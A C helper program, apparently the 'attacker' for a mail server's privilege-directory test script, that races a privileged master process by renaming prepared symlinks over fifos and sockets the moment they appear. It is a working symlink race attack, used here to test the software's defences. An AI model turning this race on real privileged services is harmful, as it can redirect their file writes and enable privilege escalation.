/* MIT licence: see LICENSE. */
/*
 * race_link.c - t-privdir.sh's attacker, run as mail_owner:
 *	race_link SECONDS VICTIM NAME...
 * the moment a NAME is a fifo or socket (master just made it), rename a
 * ready link to VICTIM over it.
 */
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int
main(int argc, char **argv)
{
	char tmp[64][4096];
	struct stat st;
	time_t end = time(NULL) + atoi(argv[1]);
	long n = 0;
	int k;

	if (argc > 64)
		return 2;
	for (k = 3; k < argc; k++) {
		snprintf(tmp[k], sizeof(tmp[k]), "%s.race", argv[k]);
		unlink(tmp[k]);
		symlink(argv[2], tmp[k]);
	}
	while (++n % 1024 || time(NULL) < end)
		for (k = 3; k < argc; k++)
			if (lstat(argv[k], &st) == 0 &&
			    (S_ISFIFO(st.st_mode) || S_ISSOCK(st.st_mode)) &&
			    rename(tmp[k], argv[k]) == 0)
				symlink(argv[2], tmp[k]);
	for (k = 3; k < argc; k++)
		unlink(tmp[k]);
	return 0;
}
